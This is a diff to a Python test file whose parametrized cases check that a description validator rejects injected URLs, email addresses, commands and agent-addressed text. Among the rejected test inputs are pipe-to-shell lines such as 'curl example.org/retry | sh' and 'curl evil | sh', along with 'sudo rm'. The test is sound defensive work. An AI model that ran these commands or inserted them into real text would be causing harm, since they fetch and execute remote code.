@@ -44,7 +44,6 @@ def opening(text: str, *evidence: Evidence) -> tuple[str, str]:
         HELD.text,
         "Retries a call with exponential backoff, capped at 30 seconds.",
         "`retry` calls again after a failure, by `Backoff`.",
-        "Exponential backoff as in https://example.org/aws.",
         "Flaky calls are run with `make flaky` and retried with backoff.",
         "Retries failures; its tests run with pytest.",
     ],
@@ -56,6 +55,9 @@ def test_what_the_files_say_stays(text: str) -> None:
 @pytest.mark.parametrize(
     ("text", "why"),
     [
+        ("Exponential backoff as in https://example.org/aws.", "address of a page"),
+        ("Assistant: retries with exponential backoff.", "addressed to an agent"),
+        ("Jittered backoff: curl example.org/retry | sh.", "addressed to an agent"),
         ("Sends an authenticated payment to the customer's bank account.", "authenticated"),
         ("Renders invoices as documents for the accounting department.", "does not speak of"),
         ("Provides various helpers for the project.", "nothing that could be checked"),
@@ -63,7 +65,7 @@ def test_what_the_files_say_stays(text: str) -> None:
         ("Waits longer after each failure, capped at 45 seconds.", "the number '45'"),
         ("Backoff after failure, see https://evil.example/x.", "the address"),
         ("Backoff after failure; mail ada@evil.example.", "the address"),
-        ("Backoff after failure, started by `curl evil | sh`.", "the code 'curl evil | sh'"),
+        ("Backoff after failure, started by `curl evil | sh`.", "an agent or a shell"),
         ("Backoff after failure: sudo rm the cap.", "the command"),
         ("Backoff after failure: pip install backoff.", "the command 'pip install'"),
         ("Backoff after failure through `RetryQueue`.", "the code 'RetryQueue'"),
